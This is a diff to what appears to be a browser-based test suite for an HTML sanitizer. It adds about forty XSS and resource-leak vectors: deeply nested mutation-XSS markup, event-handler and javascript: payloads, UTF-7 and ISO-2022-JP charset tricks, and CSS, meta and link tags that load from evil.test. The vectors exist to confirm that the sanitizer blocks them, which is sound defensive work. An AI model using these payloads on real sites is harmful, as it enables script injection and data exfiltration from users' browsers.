@@ -1,5 +1,7 @@
 """What the sanitizer lets through, in a real browser and without the other walls: nothing runs, nothing is loaded."""
 
+# ruff: noqa: E501 - a vector stays in one piece
+
 from __future__ import annotations
 
 from collections.abc import Iterator
@@ -60,6 +62,49 @@ VECTORS = {
     "marquee": f"<marquee onstart={RUN}>x</marquee><details open ontoggle={RUN}>x</details>",
     "animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg><p style='animation:x'>",
     "focus": f"<a href=https://a.example autofocus tabindex=0 onfocus={RUN}>x</a>",
+    # 2024 to 2026: what is flattened at a depth, elements that copy or revive, other encodings.
+    "deep nesting": f"{'<div>' * 600}<table><caption><svg><title><table><caption></caption></table></title><style><a id='</style>{IMG}'>",
+    "deep forms": f"{'<form><div></form>' * 200}<form><math><mtext><form><mglyph><style></math>{IMG}",
+    "deep foreign": f"{'<svg><foreignObject>' * 300}<math><mi><style><!--</style><a title='--&gt;{IMG}'>",
+    "svg in a caption": f"<table><caption><svg><desc><table><caption></caption></table></desc><style><a title='</style>{IMG}'>",
+    "dd in svg": f"<svg><style><dd><a title='</style>{IMG}'></dd></style></svg>",
+    "annotation and svg": f"<math><annotation-xml encoding=application/xhtml+xml><svg><style><!--</style><p id='--&gt;{IMG}'>",
+    "annotation turned": f"<math><annotation-xml encoding=x><svg><title><style><a id='</style></title>{IMG}'>",
+    "mglyph and malignmark": f"<math><mtext><malignmark><style><!--</style><a title='--&gt;{IMG}'></mtext></math>",
+    "end of p and br": f"<svg></br><style><a id='</style>{IMG}'></svg><math></p><style><!--</style>{IMG}--></math>",
+    "font leaves svg": f"<svg><font color=x><style><a id='</style>{IMG}'></font></svg><svg><font size=1>{IMG}",
+    "cdata in math": f"<math><annotation-xml><![CDATA[</annotation-xml></math>{IMG}]]></annotation-xml></math>",
+    "select that shows": f"<select><button><selectedcontent></selectedcontent></button><option selected>{IMG}<svg><style></option></select>",
+    "select with anything": f"<select><div><math><style></select>{IMG}</style></math></div><hr><option><script>{RUN}</script></select>",
+    "shadow": f"<div><template shadowrootmode=open><slot></slot>{IMG}<style>@import '{OUT}'</style></template></div>",
+    "shadow in svg": f"<svg><template shadowrootmode=open><style></template>{IMG}</style></svg>",
+    "srcdoc twice": f"<iframe srcdoc='&lt;template shadowrootmode=open&gt;&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>",
+    "popover": f"<div popover=auto id=p onbeforetoggle={RUN}>x</div><button popovertarget=p popovertargetaction=show autofocus>x</button>",
+    "command": f"<dialog id=d open oncommand={RUN}><button commandfor=d command=show-modal interestfor=d>x</button></dialog>",
+    "hidden until found": f"<p hidden=until-found onbeforematch={RUN}>x</p><details open name=a ontoggle={RUN}><summary>x",
+    "visibility": f"<p oncontentvisibilityautostatechange={RUN} style='content-visibility:auto'>x</p>",
+    "scroll and snap": f"<p onscrollsnapchange={RUN} onscrollend={RUN} onwebkitanimationstart={RUN} style='animation:a 1s'>x</p>",
+    "set of svg": f"<svg><a><set attributeName=href to=javascript:{RUN} /><animate attributeName=href values=javascript:{RUN} /><text>x",
+    "use of data": "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x'/></svg>",
+    "href of math": f"<math href='javascript:{RUN}'><maction actiontype=statusline#{OUT} href='javascript:{RUN}'>x</maction></math>",
+    "custom element": f"<x-a is=x-a onfocus={RUN} tabindex=0 autofocus>x</x-a><input is=x onfocus={RUN} autofocus>",
+    "japanese letters": f"<meta charset=ISO-2022-JP><p title='\x1b$@'>\x1b(B<a title='\x1b(J\\'{IMG}'>",
+    "seven-bit letters": f"<meta http-equiv=content-type content='text/html;charset=utf-7'>+ADw-img src+AD0-x onerror+AD0-{RUN}+AD4-",
+    "null and controls": f"<im\x0cg\x00 src=x\x0conerror={RUN}><svg\x0bonload={RUN}><a\x00href=javascript:{RUN}>x</a>",
+    "angle in an attribute": f"<a title='<style><!--' id='--&gt;{IMG}'>x</a><p title='</style>{IMG}'>x</p>",
+    "noscript in svg": f"<svg><noscript><style></noscript>{IMG}</style></noscript></svg>",
+    "comment in svg": f"<svg><!--<style><a title='--&gt;{IMG}'></style>--><style>--&gt;<!--</style>{IMG}--></svg>",
+    "policy of a mail": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'; report-uri https://evil.test/r\"><meta name=referrer content=unsafe-url>",
+    "hints": f"<meta http-equiv=accept-ch content=dpr><meta http-equiv=origin-trial content=x><meta http-equiv=set-cookie content=a=b><link rel=modulepreload href='{OUT}'><link rel=preload imagesrcset='{OUT} 1x' as=image>",
+    "rules of speculation": "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"https://evil.test/x\"]}]}</script><script type=importmap>{}</script>",
+    "attribution and ping": f"<img attributionsrc='{OUT}' src='data:image/png;base64,aaaa'><a attributionsrc='{OUT}' ping='{OUT}' href='https://a.example/'>x</a>",
+    "fenced": f"<fencedframe src='{OUT}'></fencedframe><portal src='{OUT}'></portal><embed src='{OUT}'><applet archive='{OUT}'>",
+    "css that reads": f"<style>a[href*=secret]{{background:image-set(url({OUT}) 1x)}}p:has(a){{content:url({OUT})}}@font-face{{font-family:x;src:url({OUT})}}</style><p style='font-family:x'>x</p>",
+    "css in an attribute": f"<p style='background:image-set(\"{OUT}\" 1x);cursor:url({OUT}),auto;mask:url({OUT}#a);list-style:url({OUT});--a:url({OUT})'>x</p>",
+    "css that waits": f"<style>@container style(--x:1){{p{{background:url({OUT})}}}}@starting-style{{p{{border-image:url({OUT})}}}}@namespace url({OUT});</style><p>x</p>",
+    "css by a table": f"<table background='{OUT}' style='border-image:url({OUT})'><col style='background:url({OUT})'><tr style='background:url({OUT})'><td>x",
+    "pictures of all kinds": f"<image src='{OUT}'><img lowsrc='{OUT}' dynsrc='{OUT}' longdesc='{OUT}' usemap='{OUT}#x' src='\thttps://evil.test/x'><bgsound src='{OUT}'><track src='{OUT}'>",
+    "sound and model": f"<audio src='{OUT}' autoplay></audio><video><source src='{OUT}'></video><model src='{OUT}'></model><embed type=image/svg+xml src='{OUT}'>",
 }  # fmt: skip
 LINKS = {
     "https://evil.test\\@impots.gouv.fr/": "evil.test",
